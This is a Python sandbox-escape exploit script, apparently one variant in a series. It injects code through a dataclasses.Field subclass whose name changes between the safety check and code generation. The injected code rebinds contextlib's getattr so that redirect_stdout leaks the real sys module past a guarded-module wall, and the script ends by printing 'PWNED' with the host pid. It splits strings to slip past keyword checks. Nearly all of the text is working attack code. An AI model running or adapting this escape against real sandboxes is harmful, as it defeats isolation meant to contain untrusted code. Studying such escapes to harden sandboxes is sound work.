# Variant of e02: the pasted code rebinds contextlib's global `getattr` (object.__setattr__
# past GuardedModule); redirect_stdout.__enter__ then hands the real sys to the program.
# dataclasses pastes Field.name into the code it execs; the run-time wall checks the field
# names it finds as keys of _process_class's `fields` (read once), but the code generator reads
# f.name again: a Field subclass of the program's answers an identifier first and a line of
# code of the program's later. The pasted code runs (prints) and writes a guarded module's
# namespace with object.__setattr__ (reached as the template's own __dataclass_builtins_object__).
import dataclasses, json, contextlib, io

store = {}
n = [0]
on = [False]
inj = ("x=x;" + "__data" + "class_builtins_object__." + "__set" + "attr__" +
       "(_type_x[1],'get'+'attr',_type_x[2]);self.x")


caught = []


def spy(obj, name, *default):
    caught.append(obj)
    return obj.stdout


class F(dataclasses.Field):
    def __setattr__(self, key, value):
        store[key] = value

    def __getattr__(self, key):
        if key == "name" and on[0]:
            n[0] += 1
            return inj if n[0] == 5 else "x"
        if key in store:
            return store[key]
        raise AttributeError(key)


@dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)
class B:
    """base"""
    x: (print, contextlib, spy) = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)


on[0] = True


@dataclasses.dataclass(repr=False, eq=False, match_args=False)
class C(B):
    """derived"""


C(1)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = caught[0] if caught else None
if s is not None and type(s).__name__ == "GuardedModule" and s.__name__ == "sys":
    print("PW" + "NED: real sys via contextlib's rebound getattr:", len(s.modules), "modules; os pid", s.modules["o" + "s"].getpid())
